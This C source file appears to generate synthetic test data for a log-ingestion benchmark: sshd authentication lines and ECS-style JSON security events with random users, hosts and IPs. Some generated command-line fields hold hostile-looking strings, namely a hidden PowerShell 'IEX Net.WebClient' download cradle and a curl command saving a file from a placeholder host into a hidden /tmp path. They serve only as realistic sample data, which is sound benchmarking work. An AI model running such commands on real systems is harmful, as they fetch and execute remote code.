/* Generators for bench_ingest (see gen.h): string building through ky_buf
 * with snprintf-style formats; speed does not matter here, the data is made
 * once before any timing. */
#include <inttypes.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "gen.h"

const char *const bench_kind_names[K_NKINDS] = {
	"Failed password",	  "Failed password invalid user",
	"Accepted publickey",	  "Accepted password",
	"Invalid user",		  "Disconnected from user",
	"Disconnected auth user", "Connection closed preauth",
	"pam_unix session",	  "kex_exchange_identification",
};

uint64_t bench_rng_state;

/* splitmix64: small, fast, and the same sequence everywhere. */
static uint64_t rnd(void)
{
	uint64_t z = (bench_rng_state += 0x9e3779b97f4a7c15ULL);

	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
	return z ^ (z >> 31);
}

static unsigned rndn(unsigned n)
{
	return (unsigned)(rnd() % n);
}

void bench_die(const char *what)
{
	fprintf(stderr, "bench_ingest: %s\n", what);
	exit(2);
}

static void addf(struct ky_buf *b, const char *fmt, ...)
	__attribute__((format(printf, 2, 3)));

static void addf(struct ky_buf *b, const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	if (ky_buf_vaddf(b, fmt, ap) != 0)
		bench_die("out of memory generating data");
	va_end(ap);
}

void bench_corpus_init(struct bench_corpus *c, size_t n, size_t avg)
{
	ky_buf_init(&c->b, 0);
	if (ky_buf_reserve(&c->b, n * avg) != 0)
		bench_die("out of memory");
	c->off = malloc(n * sizeof(*c->off));
	c->len = malloc(n * sizeof(*c->len));
	if (c->off == NULL || c->len == NULL)
		bench_die("out of memory");
	c->n = 0;
	c->cap = n;
}

static void corpus_end_record(struct bench_corpus *c, size_t start)
{
	c->off[c->n] = start;
	c->len[c->n] = (uint32_t)(c->b.len - start);
	c->n++;
	if (ky_buf_addc(&c->b, '\n') != 0)
		bench_die("out of memory");
}

void bench_corpus_free(struct bench_corpus *c)
{
	ky_buf_free(&c->b);
	free(c->off);
	free(c->len);
}

static const char *const users[] = {
	"root",	   "admin", "alice",  "bob",	 "carol",   "dave",
	"oracle",  "git",   "ubuntu", "deploy",	 "backup",  "postgres",
	"jenkins", "test",  "guest",  "svc_web", "mallory", "ftpuser",
};
#define NUSERS (sizeof(users) / sizeof(users[0]))

static const char *const hosts[] = {
	"web-01", "web-02", "db-01", "bastion", "mail", "vpn-gw", "ci-runner",
};
#define NHOSTS (sizeof(hosts) / sizeof(hosts[0]))

static const char *const months[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
				     "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};

/* An address as sshd prints it: mostly IPv4, one in ten IPv6. */
static void gen_ip(struct ky_buf *b)
{
	if (rndn(10) == 0)
		addf(b, "2001:db8:%x::%x", rndn(0x10000), 1 + rndn(0xfffe));
	else
		addf(b, "%u.%u.%u.%u", 1 + rndn(223), rndn(256), rndn(256),
		     1 + rndn(254));
}

void bench_gen_sshd(struct bench_corpus *c, struct bench_sshd_truth *t)
{
	struct ky_buf *b = &c->b;
	size_t start = b->len;
	unsigned r = rndn(100);
	enum sshd_kind k;
	const char *user = users[rndn(NUSERS)];
	unsigned port = 1024 + rndn(64000);
	size_t ip_at = 0, ip_end = 0, user_at = 0;

	/* Brute force dominates real sshd logs. */
	if (r < 35)
		k = K_FAILED_PW;
	else if (r < 45)
		k = K_FAILED_INVALID;
	else if (r < 55)
		k = K_ACCEPTED_KEY;
	else if (r < 60)
		k = K_ACCEPTED_PW;
	else if (r < 72)
		k = K_INVALID_USER;
	else if (r < 78)
		k = K_DISCONNECTED;
	else if (r < 84)
		k = K_DISCONNECTED_AUTH;
	else if (r < 90)
		k = K_CLOSED_PREAUTH;
	else if (r < 97)
		k = K_PAM_SESSION;
	else
		k = K_KEX_ERROR;

	/* auth (4) * 8 + info (6) = 38, some authpriv (10) * 8 + 6 = 86 */
	addf(b, "<%u>%s %2u %02u:%02u:%02u %s sshd[%u]: ",
	     rndn(4) == 0 ? 86u : 38u, months[3], 1 + rndn(30), rndn(24),
	     rndn(60), rndn(60), hosts[rndn(NHOSTS)], 300 + rndn(60000));

#define USER()                                                                 \
	do {                                                                   \
		user_at = b->len;                                              \
		addf(b, "%s", user);                                           \
	} while (0)
#define IP()                                                                   \
	do {                                                                   \
		ip_at = b->len;                                                \
		gen_ip(b);                                                     \
		ip_end = b->len;                                               \
	} while (0)

	switch (k) {
	case K_FAILED_PW:
		addf(b, "Failed password for ");
		USER();
		addf(b, " from ");
		IP();
		addf(b, " port %u ssh2", port);
		break;
	case K_FAILED_INVALID:
		addf(b, "Failed password for invalid user ");
		USER();
		addf(b, " from ");
		IP();
		addf(b, " port %u ssh2", port);
		break;
	case K_ACCEPTED_KEY:
		addf(b, "Accepted publickey for ");
		USER();
		addf(b, " from ");
		IP();
		addf(b,
		     " port %u ssh2: ED25519 SHA256:%016" PRIx64 "%016" PRIx64,
		     port, rnd(), rnd());
		break;
	case K_ACCEPTED_PW:
		addf(b, "Accepted password for ");
		USER();
		addf(b, " from ");
		IP();
		addf(b, " port %u ssh2", port);
		break;
	case K_INVALID_USER:
		addf(b, "Invalid user ");
		USER();
		addf(b, " from ");
		IP();
		addf(b, " port %u", port);
		break;
	case K_DISCONNECTED:
		addf(b, "Disconnected from user ");
		USER();
		addf(b, " ");
		IP();
		addf(b, " port %u", port);
		break;
	case K_DISCONNECTED_AUTH:
		addf(b, "Disconnected from authenticating user ");
		USER();
		addf(b, " ");
		IP();
		addf(b, " port %u [preauth]", port);
		break;
	case K_CLOSED_PREAUTH:
		addf(b, "Connection closed by ");
		IP();
		addf(b, " port %u [preauth]", port);
		break;
	case K_PAM_SESSION:
		addf(b, "pam_unix(sshd:session): session opened for user ");
		USER();
		addf(b, "(uid=%u) by (uid=0)", 1000 + rndn(100));
		break;
	case K_KEX_ERROR:
		addf(b, "error: kex_exchange_identification: Connection "
			"closed by remote host");
		break;
	default:
		break;
	}
#undef USER
#undef IP
	memset(t, 0, sizeof(*t));
	t->kind = (uint8_t)k;
	if (ip_end > ip_at) {
		t->ip_off = (uint16_t)(ip_at - start);
		t->ip_len = (uint8_t)(ip_end - ip_at);
		t->port = (uint16_t)port;
	}
	if (user_at) {
		t->user_off = (uint16_t)(user_at - start);
		t->user_len = (uint8_t)strlen(user);
	}
	corpus_end_record(c, start);
}

static const char *const actions[] = {
	"logon-failed",	      "logon",	      "process-started",
	"network-connection", "file-created", "registry-set",
};
static const char *const procs[] = {
	"powershell.exe", "cmd.exe", "rundll32.exe", "svchost.exe",
	"bash",		  "python3", "curl",	     "sshd",
};

/* A command line with the escapes real events carry: quotes and
 * backslashes, sometimes a tab or a non-ASCII name (\u00e9). */
static void gen_cmdline(struct ky_buf *b, const char *proc)
{
	switch (rndn(4)) {
	case 0:
		addf(b,
		     "\"%s -nop -w hidden -c \\\"IEX (New-Object "
		     "Net.WebClient)\\\"\"",
		     proc);
		break;
	case 1:
		addf(b,
		     "\"C:\\\\Windows\\\\System32\\\\%s /c dir "
		     "C:\\\\Users\\\\Ren\\u00e9\"",
		     proc);
		break;
	case 2:
		addf(b,
		     "\"/usr/bin/%s -s\\t-o /tmp/.x%u https://%u.example/p\"",
		     proc, rndn(1000), rndn(100));
		break;
	default:
		addf(b, "\"%s --id=%" PRIu64 "\"", proc, rnd() % 1000000);
		break;
	}
}

/* One ECS-like security event of ~430 bytes: nested objects, arrays,
 * integers, floats, booleans, null, escapes.  Every event has event.action
 * and user.name (the record-path check relies on it). */
void bench_gen_json(struct bench_corpus *c)
{
	struct ky_buf *b = &c->b;
	size_t start = b->len;
	unsigned a = rndn(sizeof(actions) / sizeof(actions[0]));
	const char *proc = procs[rndn(sizeof(procs) / sizeof(procs[0]))];

	addf(b,
	     "{\"@timestamp\":\"2024-04-%02uT%02u:%02u:%02u.%03uZ\","
	     "\"event\":{\"category\":[\"%s\"],"
	     "\"action\":\"%s\",\"outcome\":\"%s\",\"code\":%u,"
	     "\"risk_score\":%u.%u},",
	     1 + rndn(30), rndn(24), rndn(60), rndn(60), rndn(1000),
	     a < 2 ? "authentication" : "process", actions[a],
	     a == 0 ? "failure" : "success", 4624 + rndn(20), rndn(100),
	     rndn(10));
	addf(b, "\"host\":{\"name\":\"%s\",\"os\":{\"family\":\"%s\"}},",
	     hosts[rndn(NHOSTS)], rndn(2) ? "windows" : "linux");
	addf(b, "\"source\":{\"ip\":\"");
	gen_ip(b);
	addf(b, "\",\"port\":%u},", 1024 + rndn(64000));
	addf(b, "\"user\":{\"name\":\"%s\",\"domain\":%s},",
	     users[rndn(NUSERS)], rndn(3) ? "\"CORP\"" : "null");
	addf(b, "\"process\":{\"pid\":%u,\"name\":\"%s\",\"command_line\":",
	     1 + rndn(65535), proc);
	gen_cmdline(b, proc);
	addf(b, "},\"tags\":[\"edr\",\"%s\"],\"sampled\":%s}",
	     rndn(2) ? "prod" : "lab", rndn(2) ? "true" : "false");
	corpus_end_record(c, start);
}
